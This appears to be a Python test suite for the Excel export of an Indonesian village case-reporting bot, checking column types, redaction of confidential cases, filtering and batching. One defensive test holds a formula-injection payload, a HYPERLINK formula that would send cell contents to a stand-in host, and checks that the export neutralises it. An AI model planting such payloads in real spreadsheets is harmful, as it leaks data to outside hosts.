"""Cases as a table for the office: what is in it, what must not be, and how a spreadsheet reads it."""

import asyncio
import io
import itertools
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest
from hypothesis import given
from hypothesis import settings as quietly
from hypothesis import strategies as st
from openpyxl import load_workbook
from openpyxl.worksheet.worksheet import Worksheet

from bot.program import build_house
from bot.settings import Settings
from domain.category import Category
from domain.lifecycle import State, Step
from domain.roles import Role
from domain.severity import Severity
from services.files import export, workshop
from services.files.spreadsheet import LONGEST_TEXT, Column, Kind, Spreadsheet, fit
from services.work import House
from storage.areas import Area
from storage.cases import Case, CaseEvent
from storage.database import Database
from storage.exports import Chosen
from storage.people import Appointment, Person
from texts.catalogue import units

BONGAN, BANJAR, TABANAN, KEDIRI = "51.02.05.2003", "51.02.05.2003.01", "51.02.05", "51.02.06"
#: 10.02 in Bali.
MORNING = datetime(2026, 11, 24, 2, 2, 30, 123456, tzinfo=UTC)
WIDE = (datetime(2026, 1, 1, tzinfo=UTC), datetime(2027, 1, 1, tzinfo=UTC))
ALL = Chosen("51.02", *WIDE)
WAYAN, ARTA = 501, 502
NUMBERS = itertools.count(1)


@pytest.fixture
def house(settings: Settings) -> House:
    return build_house(settings)


@pytest.fixture
async def office(database: Database) -> Database:
    """Wayan lives in Bongan, I Ketut Arta is its perbekel, and it has one banjar with a name."""
    async with database.writes() as tx:
        tx.add_all([Person(telegram_id=WAYAN, name="Wayan Sudarma"), Person(telegram_id=ARTA, name="I Ketut Arta")])
        tx.add(Area(code=BANJAR, level="banjar", name="Banjar Kelod", parent_code=BONGAN))
        await tx.flush()
        since = MORNING - timedelta(days=30)
        tx.add(Appointment(person_id=ARTA, role=Role.PERBEKEL, area_code=BONGAN, since=since))
        await tx.commit()
    return database


def case(**changes: Any) -> Case:  # noqa: ANN401 (whatever a column holds)
    number = next(NUMBERS)
    usual: dict[str, Any] = {
        "number": f"TBN-26-{number:05}",
        "category": Category.FASUM,
        "severity": Severity.PG,
        "area_code": BONGAN,
        "text": "jalan bolong di depan SD",
        "reporter_id": WAYAN,
        "holder_id": ARTA,
        "post_id": 1,
        "confidential": False,
        "opened_at": MORNING,
        "lat": -8.551234,
        "lon": 115.091234,
    }
    return Case(**(usual | changes))


async def keep(database: Database, *rows: Case, events: tuple[dict[str, Any], ...] = ()) -> None:
    """events: of the first of the rows."""
    async with database.writes() as tx:
        tx.add_all(rows)
        await tx.flush()
        tx.add_all([CaseEvent(case_id=rows[0].id, **({"at": MORNING, "detail": {}} | event)) for event in events])
        await tx.commit()


async def table(database: Database, house: House, chosen: Chosen = ALL) -> tuple[Worksheet, Worksheet]:
    file = io.BytesIO()
    async with database.reads() as tx:
        await export.write(tx, house, chosen, file)
    book = load_workbook(file)
    return book["Kasus"], book["Kejadian"]


def lines(sheet: Worksheet) -> list[dict[str, Any]]:
    heading, *rows = sheet.iter_rows(values_only=True)
    return [dict(zip(map(str, heading), row, strict=True)) for row in rows]


async def test_a_case_is_read_back_as_it_was_with_every_column_of_its_type(office: Database, house: House) -> None:
    """Dates are dates in WITA without a zone, numbers are numbers, the rest is text in Indonesian."""
    settled = case(
        area_code=BANJAR,
        state=State.CLOSED,
        accepted_at=MORNING + timedelta(minutes=12, seconds=30),
        resolved_at=MORNING + timedelta(hours=3),
        closed_at=MORNING + timedelta(days=1),
        note="sudah ditambal",
        rating=4,
    )
    await keep(office, settled)
    cases, _ = await table(office, house)
    (row,) = lines(cases)
    assert row == {
        "Nomor": settled.number,
        "Dibuka (WITA)": datetime(2026, 11, 24, 10, 2, 30),  # noqa: DTZ001 (a cell knows no zone)
        "Tingkat": "🟢 Potensi gangguan",
        "Jenis": "Jalan, lampu, sampah",
        "Status": "ditutup",
        "Kecamatan": "Tabanan",
        "Desa": "Bongan",
        "Banjar": "Banjar Kelod",
        "Lintang": -8.551234,
        "Bujur": 115.091234,
        "Pelapor": "Wayan Sudarma",
        "Pemegang": "Perbekel Bongan",
        "Diterima (WITA)": datetime(2026, 11, 24, 10, 15),  # noqa: DTZ001
        "Selesai (WITA)": datetime(2026, 11, 24, 13, 2, 30),  # noqa: DTZ001
        "Ditutup (WITA)": datetime(2026, 11, 25, 10, 2, 30),  # noqa: DTZ001
        "Menit sampai diterima": 12.5,
        "Menit sampai selesai": 180,
        "Rahasia": "tidak",
        "Isi laporan": "jalan bolong di depan SD",
        "Catatan": "sudah ditambal",
        "Penilaian (1–5)": 4,
    }
    kinds = {str(heading.value): cell for heading, cell in zip(cases[1], cases[2], strict=True)}
    assert kinds["Dibuka (WITA)"].is_date
    assert kinds["Dibuka (WITA)"].number_format == "dd/mm/yyyy hh:mm"
    assert [kinds[name].data_type for name in ("Lintang", "Penilaian (1–5)", "Nomor", "Rahasia")] == [
        "n",
        "n",
        "s",
        "s",
    ]


async def test_what_has_not_happened_is_an_empty_cell(office: Database, house: House) -> None:
    """Neither a nought nor a dash: a spreadsheet counts and averages what is there."""
    await keep(office, case(lat=None, lon=None, holder_id=None, post_id=None, reporter_id=None))
    (row,) = lines((await table(office, house))[0])
    empty = {name for name, value in row.items() if value is None}
    assert empty == {
        *("Banjar", "Lintang", "Bujur", "Pemegang", "Diterima (WITA)", "Selesai (WITA)", "Ditutup (WITA)"),
        *("Menit sampai diterima", "Menit sampai selesai", "Catatan", "Penilaian (1–5)"),
    }
    assert row["Pelapor"] == "Data pelapor sudah dihapus"


async def test_both_sheets_have_a_frozen_heading_filters_and_room_for_what_is_in_them(
    office: Database, house: House
) -> None:
    """What somebody would do first by hand."""
    await keep(office, case(), case(), events=({"kind": Step.OPEN, "actor_id": WAYAN},))
    cases, events = await table(office, house)
    for sheet, columns, reach in ((cases, export.CASES, "A1:U3"), (events, export.EVENTS, "A1:E2")):
        assert sheet.freeze_panes == "A2"
        assert sheet.auto_filter.ref == reach
        assert [cell.value for cell in sheet[1]] == [column.heading for column in columns]
        assert all(sheet.column_dimensions[cell.column_letter].width >= 10 for cell in sheet[1])


async def test_a_report_written_down_for_somebody_names_both(office: Database, house: House) -> None:
    """Who told it, and who wrote it down."""
    await keep(office, case(behalf_of="Men Sari"), case(behalf_of=""))
    rows = lines((await table(office, house))[0])
    assert [row["Pelapor"] for row in rows] == [
        "Men Sari (dituliskan oleh Wayan Sudarma)",
        "warga (dituliskan oleh Wayan Sudarma)",
    ]


async def test_a_confidential_case_is_without_persons_words_and_coordinates(office: Database, house: House) -> None:
    """In both sheets: what remains is the number, the kind, the place by name, and the moments."""
    secret = case(
        confidential=True,
        category=Category.NARKOBA,
        behalf_of="Men Sari",
        pseudonym="Kamboja 7",
        note="bandar ditangkap",
        accepted_at=MORNING + timedelta(minutes=5),
        state=State.ACCEPTED,
    )
    told = (
        {"kind": Step.OPEN, "actor_id": WAYAN},
        {"kind": Step.ADD, "actor_id": WAYAN, "detail": {"words": "di rumah Pak Gede"}},
        {"kind": Step.HAND_OVER, "actor_id": ARTA, "detail": {"reason": "bukan wewenang", "to": "Kapolsek Tabanan"}},
        {"kind": Step.ASSIGN, "detail": {"holder": ARTA}},
    )
    await keep(office, secret, events=told)
    cases, events = await table(office, house)
    (row,) = lines(cases)
    for name in ("Lintang", "Bujur", "Pelapor", "Pemegang", "Isi laporan", "Catatan"):
        assert row[name] is None
    assert (row["Rahasia"], row["Desa"], row["Menit sampai diterima"]) == ("ya", "Bongan", 5)
    assert [event["Langkah"] for event in lines(events)] == [
        "dilaporkan",
        "ditambah keterangan",
        "diteruskan",
        "diberikan kepada pemegang",
    ]
    assert {event["Oleh"] for event in lines(events)} | {event["Perincian"] for event in lines(events)} == {None}
    cells = [str(value) for sheet in (cases, events) for line in sheet.values for value in line]
    for word in ("Wayan", "Ketut", "Sari", "Kamboja", "bandar", "jalan bolong", "Gede", "8.55", "Perbekel"):
        assert not any(word in cell for cell in cells), word


async def test_the_army_gets_no_confidential_case_and_nobody_gets_the_case_about_themselves(
    office: Database, house: House
) -> None:
    """Neither a row nor an event of it."""
    open_to_all, secret = case(), case(confidential=True)
    about = case(excluded={"persons": [ARTA]})
    await keep(office, secret, open_to_all, about, events=({"kind": Step.OPEN, "actor_id": WAYAN},))
    for chosen, expected in (
        (Chosen("51.02", *WIDE, confidential=False), [open_to_all.number, about.number]),
        (Chosen("51.02", *WIDE, unseen_by=ARTA), [secret.number, open_to_all.number]),
    ):
        cases, events = await table(office, house, chosen)
        assert [row["Nomor"] for row in lines(cases)] == expected
        assert {row["Nomor"] for row in lines(events)} <= set(expected)


async def test_an_area_and_a_period_choose_and_the_end_is_not_in_it(office: Database, house: House) -> None:
    """From the first moment until, not including, the last; an area with everything inside it and nothing beside."""
    within = [case(), case(area_code=BANJAR), case(area_code=TABANAN)]
    await keep(
        office,
        *within,
        case(area_code="51.02.06.2014"),
        case(opened_at=MORNING - timedelta(seconds=1)),
        case(opened_at=MORNING + timedelta(days=1)),
    )
    found = lines((await table(office, house, Chosen(TABANAN, MORNING, MORNING + timedelta(days=1))))[0])
    assert [row["Nomor"] for row in found] == [each.number for each in within]


@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
async def test_what_begins_like_a_formula_is_text(office: Database, house: House, start: str) -> None:
    """A report, a name or a note cannot make the spreadsheet of an office compute, fetch or run anything."""
    words = f'{start}HYPERLINK("http://a.example/?"&A1,"klik")'
    await keep(
        office,
        case(text=words, note=words, behalf_of=words),
        events=({"kind": Step.ADD, "actor_id": WAYAN, "detail": {"words": words}},),
    )
    for sheet in await table(office, house):
        written = [cell for line in sheet.iter_rows(min_row=2) for cell in line if "HYPERLINK" in str(cell.value)]
        assert written
        for cell in written:
            assert cell.data_type == "s"
            assert cell.quotePrefix
            assert str(cell.value).startswith(start.replace("\r", "\n"))


def in_one_cell(text: str) -> object:
    """What a spreadsheet reads where this was written."""
    file = io.BytesIO()
    with Spreadsheet(build_house(Settings()).zone) as book:
        book.table("Kasus", [Column("Isi", 20)]).add([[text]])
        book.save(file)
    cell = load_workbook(file)["Kasus"]["A2"]
    assert cell.data_type in {"s", "n"}, "never a formula, never a fault"
    assert cell.data_type == "s" or cell.value is None
    return cell.value


@quietly(deadline=None, derandomize=True, max_examples=60)
@given(
    st.text() | st.sampled_from(["#N/A", "#REF!", "TRUE", "1e5", "2026-11-24", "_x000D_", "a\x00b\x0bc\ufffe", " x "])
)
def test_any_words_come_back_as_they_were_but_for_what_a_cell_cannot_hold(words: str) -> None:
    """Control characters go; a number written as words stays words."""
    assert (in_one_cell(words) or "") == fit(words)


def test_words_longer_than_a_cell_are_cut_with_a_mark() -> None:
    """Excel repairs a file with longer ones by throwing them away."""
    read = str(in_one_cell("🔴kata " * 9000))
    assert units(read) <= LONGEST_TEXT
    assert read.endswith("… (dipotong)")


def test_a_full_sheet_is_continued_on_the_next(settings: Settings) -> None:
    """Excel has a million rows; nothing is lost after them."""
    file = io.BytesIO()
    with Spreadsheet(build_house(settings).zone, most_rows=4) as book:
        book.table("Kejadian", [Column("Nomor", 10, Kind.WHOLE)]).add([number] for number in range(7))
        book.save(file)
    read = load_workbook(file)
    assert read.sheetnames == ["Kejadian", "Kejadian 2", "Kejadian 3"]
    assert [[row[0] for row in sheet.values] for sheet in read] == [
        ["Nomor", 0, 1, 2],
        ["Nomor", 3, 4, 5],
        ["Nomor", 6],
    ]
    assert [sheet.auto_filter.ref for sheet in read] == ["A1:A4", "A1:A4", "A1:A2"]


async def test_events_say_who_did_what_by_the_post_held_then(office: Database, house: House) -> None:
    """In the order they happened; a post that has ended still says who acted."""
    async with office.writes() as tx:
        held = await tx.get_one(Appointment, 1)
        held.until = MORNING + timedelta(hours=1)
        tx.add(Appointment(person_id=ARTA, role=Role.COMMANDER, area_code=KEDIRI, since=MORNING + timedelta(hours=1)))
        await tx.commit()
    await keep(
        office,
        case(),
        events=(
            {"kind": Step.OPEN, "actor_id": WAYAN},
            {"kind": Step.ASSIGN, "detail": {"holder": ARTA, "holes": []}},
            {"kind": Step.ACCEPT, "actor_id": ARTA},
            {"kind": Step.HAND_OVER, "actor_id": ARTA, "detail": {"to": "Babinsa Bongan", "reason": "bukan wewenang"}},
            {"kind": Step.ACCEPT, "actor_id": ARTA, "at": MORNING + timedelta(hours=2)},
            {"kind": Step.RATE, "actor_id": WAYAN, "detail": {"stars": 4}},
            {"kind": "newer-than-we", "detail": {}},
        ),
    )
    told = [(row["Langkah"], row["Oleh"], row["Perincian"]) for row in lines((await table(office, house))[1])]
    assert told == [
        ("dilaporkan", "pelapor", None),
        ("diberikan kepada pemegang", "otomatis", "Perbekel Bongan"),
        ("diterima", "Perbekel Bongan", None),
        ("diteruskan", "Perbekel Bongan", "Babinsa Bongan · bukan wewenang"),
        ("diterima", "Kapolsek Kediri", None),
        ("dinilai pelapor", "pelapor", "★★★★"),
        ("newer-than-we", "otomatis", None),
    ]


async def test_every_case_is_in_it_once_however_many_batches_that_takes(office: Database, house: House) -> None:
    """1,200 cases with two events each: in order, and each with its own."""
    rows = [case(text=f"laporan {number}") for number in range(1200)]
    async with office.writes() as tx:
        tx.add_all(rows)
        await tx.flush()
        for row in rows:
            tx.add(CaseEvent(case_id=row.id, at=MORNING, actor_id=WAYAN, kind=Step.OPEN, detail={}))
            tx.add(CaseEvent(case_id=row.id, at=MORNING, actor_id=ARTA, kind=Step.ACCEPT, detail={}))
        await tx.commit()
    file, told = io.BytesIO(), []
    async with office.reads() as tx:
        assert await export.write(tx, house, ALL, file, told.append) == 1200
    assert told == [1000, 200]
    book = await asyncio.to_thread(load_workbook, file, read_only=True)
    numbers = [row.number for row in rows]
    assert [line[0] for line in book["Kasus"].iter_rows(min_row=2, values_only=True)] == numbers
    events = [line[0] for line in book["Kejadian"].iter_rows(min_row=2, values_only=True)]
    assert events == [number for number in numbers for _ in range(2)]


async def test_nothing_chosen_is_a_table_with_headings(office: Database, house: House) -> None:
    """An answer, too."""
    cases, events = await table(office, house)
    assert (cases.max_row, events.max_row) == (1, 1)


async def test_a_file_too_large_for_telegram_is_a_fault_with_a_name(
    office: Database, house: House, monkeypatch: pytest.MonkeyPatch
) -> None:
    """The workshop turns it into a kind word; a smaller period fits."""
    await keep(office, case())
    recipe = {
        "area": "51.02",
        "from": WIDE[0].isoformat(),
        "to": WIDE[1].isoformat(),
        "person": 1,
        "confidential": True,
    }
    async with office.reads() as tx:
        made = await export.make(tx, house, recipe)
        assert load_workbook(io.BytesIO(made))["Kasus"].max_row == 2
        monkeypatch.setattr(workshop, "LARGEST", len(made) - 1)
        with pytest.raises(workshop.TooLargeError):
            await export.make(tx, house, recipe)
